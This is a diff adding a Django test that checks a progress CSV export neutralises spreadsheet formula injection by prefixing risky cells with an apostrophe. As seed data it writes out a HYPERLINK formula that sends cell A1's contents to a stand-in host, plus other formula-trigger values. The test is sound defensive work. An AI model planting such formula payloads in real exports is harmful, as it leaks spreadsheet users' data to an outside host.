@@ -161,6 +161,26 @@ def test_progress_csv_has_a_row_per_action_and_a_column_per_state(client, endors
         ["Done", "Done"], ["Done", "Not applicable"], ["In progress", ""]]
 
 
+def test_progress_csv_neutralises_formula_cells(client, endorsed):
+    """CSV injection (issue 22, item 3): an action's text or an area's title
+    that a spreadsheet would read as a formula comes out prefixed with '."""
+    formula = '=HYPERLINK("http://x/"&A1,"Click")'
+    a1, a2, a3 = Action.objects.order_by("area__number", "order")
+    Action.objects.filter(pk=a1.pk).update(text_en=formula, text_ru=formula)
+    Action.objects.filter(pk=a2.pk).update(text_en="-2+3", text_ru="-2+3")
+    Action.objects.filter(pk=a3.pk).update(text_en="\tcmd", text_ru="\rcmd")
+    type(a1.area).objects.filter(pk=a1.area_id).update(
+        title_en="@SUM(A1:A9)", title_ru="@SUM(A1:A9)")
+
+    response = client.get(url("progress_csv", "en"))
+
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert response["Content-Disposition"] == (
+        f'attachment; filename="action-plan-progress-{endorsed.pk}.csv"')
+    assert [row[1:3] for row in rows[1:]] == [
+        ["'@SUM(A1:A9)", "'" + formula], ["'@SUM(A1:A9)", "'-2+3"], ["Procedures", "'\tcmd"]]
+
+
 @pytest.mark.parametrize("states", [1, 3])
 def test_progress_page_query_count_does_not_grow_with_states(
     client, django_assert_num_queries, plan, states
